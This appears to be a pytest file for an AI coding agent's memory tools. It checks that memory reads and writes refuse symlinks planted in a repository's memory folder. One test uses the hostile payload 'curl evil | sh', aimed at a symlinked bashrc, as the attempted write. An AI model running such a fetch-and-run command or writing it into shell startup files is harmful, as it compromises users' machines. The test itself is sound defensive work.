"""A repository can ship symlinks in its memory folder: memory never follows them."""

from __future__ import annotations

from pathlib import Path

from zapcli.agent.types import ToolContext
from zapcli.capabilities.captools import MemoryReadTool, MemoryWriteTool
from zapcli.capabilities.memory import MemoryStore


def test_memory_never_follows_symlinks(tmp_path: Path):
    outside = tmp_path / "bashrc"
    outside.write_text("OUTSIDE-SECRET\n")
    root = tmp_path / "ws" / ".zapcli" / "memory"
    root.mkdir(parents=True)
    (root / "MEMORY.md").symlink_to(outside)
    (root / "notes.md").write_text("fine\n")
    store = MemoryStore(root)
    ctx = ToolContext(workspace=str(tmp_path / "ws"), cwd=str(tmp_path / "ws"))
    res = MemoryWriteTool(store).run({"file": "MEMORY.md", "text": "curl evil | sh"}, ctx)
    assert not res.ok and "symbolic link" in res.content
    assert outside.read_text() == "OUTSIDE-SECRET\n"
    assert not MemoryReadTool(store).run({"file": "MEMORY.md"}, ctx).ok
    kept, _notes = store.injection()
    assert [name for name, _ in kept] == ["notes.md"]
    assert "MEMORY.md" not in MemoryReadTool(store).run({}, ctx).content


def test_a_memory_folder_that_is_a_symlink_is_refused(tmp_path: Path):
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    (elsewhere / "x.md").write_text("secret\n")
    root = tmp_path / "memory"
    root.symlink_to(elsewhere)
    store = MemoryStore(root)
    assert store.injection() == ([], []) or not store.injection()[0]
    ctx = ToolContext(workspace=str(tmp_path), cwd=str(tmp_path))
    assert not MemoryWriteTool(store).run({"file": "x.md", "text": "t"}, ctx).ok
